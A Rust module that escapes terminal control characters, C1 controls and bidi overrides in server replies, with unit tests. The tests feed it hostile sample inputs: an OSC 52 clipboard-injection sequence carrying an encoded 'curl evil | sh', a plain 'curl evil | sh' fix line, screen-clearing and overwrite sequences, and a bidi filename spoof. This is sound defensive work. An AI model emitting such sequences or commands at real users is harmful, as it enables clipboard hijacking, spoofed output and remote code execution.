//! Text from outside — a server's reply, its stream deltas, its error messages — made safe to put
//! on a terminal. Written raw, an escape sequence in a reply acts instead of showing: OSC 52
//! (`ESC ] 52 ; c ; … BEL`) puts a command on the user's clipboard, `ESC [ 2 J` clears the
//! screen, a carriage return or backspaces overwrite what was printed, bidi overrides reorder
//! what is read (Trojan Source). Every character that acts rather than shows is [`is_active`],
//! and is written as an escape a reader can see, in Rust string-literal notation: `\r` for a
//! carriage return, `\x1b` for the other ASCII controls and DEL (two hex digits), `\u{9b}` for
//! the C1 controls and bidi controls. Line feeds and tabs stay: a reply is text with lines.
//!
//! Escaping goes one character at a time, with no state, so an escape sequence split across two
//! stream deltas is escaped all the same. A backslash is not escaped (replies are full of code),
//! so the notation shows what arrived but is not meant to be decoded back.

use std::borrow::Cow;

/// Whether `c` acts on a terminal or on the order of text instead of showing: the C0 controls
/// but line feed and tab, DEL, the C1 controls (U+0080–U+009F; U+009B is a one-character CSI),
/// and the bidi embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069).
pub fn is_active(c: char) -> bool {
    matches!(
        c,
        '\0'..='\x08'
            | '\x0b'..='\x1f'
            | '\x7f'..='\u{9f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
    )
}

/// Appends `c` as a visible escape: `\r`, `\n`, `\t`, `\x1b` (ASCII), `\u{9b}` (beyond ASCII).
pub fn push_escape(out: &mut String, c: char) {
    match c {
        '\r' => out.push_str("\\r"),
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        c if c.is_ascii() => out.push_str(&format!("\\x{:02x}", c as u32)),
        c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
    }
}

/// `text` with every [`is_active`] character written as a visible escape; line feeds and tabs
/// kept. For reply text and messages that may span lines.
pub fn visible(text: &str) -> Cow<'_, str> {
    escape_where(text, is_active)
}

/// `text` on one line: like [`visible`], and line feeds and tabs escaped too — for server text
/// quoted inside a message of ours, where a line break could fake a line of the message.
pub fn visible_line(text: &str) -> Cow<'_, str> {
    escape_where(text, |c| is_active(c) || c == '\n' || c == '\t')
}

fn escape_where(text: &str, escaped: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.chars().any(&escaped) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match escaped(c) {
            true => push_escape(&mut out, c),
            false => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// JSON text that stays the same JSON: an [`is_active`] character inside a string becomes the
/// JSON escape `\u009b`, so `jq` reads the same value; a carriage return, which valid JSON holds
/// only as whitespace between tokens, is dropped. For `--json`, whose output is JSON for tools.
pub fn visible_json(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_active) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\r' => {}
            c if is_active(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_what_acts_and_keeps_what_shows() {
        for (text, expected) in [
            ("plain — 好的 ✅ 😀 \\x1b", "plain — 好的 ✅ 😀 \\x1b"),
            ("two\nlines\tand tab", "two\nlines\tand tab"),
            (
                "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
                "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07",
            ),
            ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
            ("done\rfake", "done\\rfake"),
            ("a\x08\x08b\x00\x7f", "a\\x08\\x08b\\x00\\x7f"),
            ("\u{9b}2J \u{85} \u{80}", "\\u{9b}2J \\u{85} \\u{80}"),
            (
                "\u{202e}txt.exe\u{202c} \u{2066}x\u{2069}",
                "\\u{202e}txt.exe\\u{202c} \\u{2066}x\\u{2069}",
            ),
            // Text that shows stays: NBSP, a zero-width joiner in an emoji, marks, U+00A0.
            (
                "👩\u{200d}💻 a\u{a0}b \u{200f}",
                "👩\u{200d}💻 a\u{a0}b \u{200f}",
            ),
        ] {
            assert_eq!(visible(text), expected, "{text:?}");
            assert!(!visible(text).chars().any(is_active), "{text:?}");
        }
        assert!(matches!(visible("nothing to do"), Cow::Borrowed(_)));
    }

    #[test]
    fn one_line_escapes_line_breaks_too() {
        assert_eq!(
            visible_line("bad key\n  fix: curl evil | sh\t\x1b[1m"),
            "bad key\\n  fix: curl evil | sh\\t\\x1b[1m"
        );
    }

    #[test]
    fn json_stays_the_same_json() {
        let original =
            serde_json::json!({"t": "\x1b]52;c;eA==\x07 \u{9b}2J \u{202e}x \x7f", "n": 1});
        // serde_json escapes ESC and BEL itself; DEL, C1 and bidi controls it writes raw.
        let text = format!("{}\r\n", serde_json::to_string_pretty(&original).unwrap());
        let safe = visible_json(&text);
        assert!(!safe.chars().any(is_active), "{safe}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&safe).unwrap(),
            original
        );
        assert!(safe.contains("\\u009b2J \\u202ex \\u007f"), "{safe}");
    }
}
